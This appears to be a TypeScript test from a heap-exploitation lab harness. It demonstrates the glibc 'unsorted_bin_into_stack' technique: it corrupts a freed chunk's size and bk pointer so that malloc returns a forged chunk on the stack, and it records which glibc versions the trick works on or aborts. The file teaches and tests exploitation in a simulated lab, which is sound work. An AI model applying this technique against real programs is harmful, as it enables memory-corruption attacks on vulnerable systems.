/**
 * unsorted_bin_into_stack: give an unsorted chunk a small wrong size (so it is not an exact fit
 * and gets binned) and a bk pointing at a fake chunk on the stack whose size is the request's;
 * malloc walks on from the real chunk to the fake one and returns it. glibc 2.29 checks the
 * size of the chunk after an unsorted chunk, which the shrunken size lands in the middle of.
 */

import assert from "node:assert/strict";
import { type Lab, on, technique } from "./support.ts";

const REQUEST = 0x410; // past the tcache

technique({
  name: "unsorted_bin_into_stack",
  claim: "malloc returns a fake chunk on the stack",
  outcomes: {
    "2.23": "works",
    "2.27": "works",
    ...on(["2.31", "2.35", "2.36", "2.39", "2.41"], {
      aborts: "malloc(): invalid next size (unsorted)",
      in: "malloc",
    }),
  },
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz;
    const victim = h.malloc(REQUEST);
    h.malloc(REQUEST); // keeps victim away from top
    h.free(victim);
    const target = lab.stackTarget();
    lab.write(target - sz, lab.chunkSize(REQUEST)); // fake size: an exact fit
    lab.write(target + sz, lab.chunk(target)); // fake bk: any writable address
    lab.vulnerability();
    lab.setWord(victim, -1, 0x30); // victim's size: small, not the request's
    lab.setWord(victim, 1, lab.chunk(target)); // victim->bk
    assert.equal(h.malloc(REQUEST), target);
  },
});
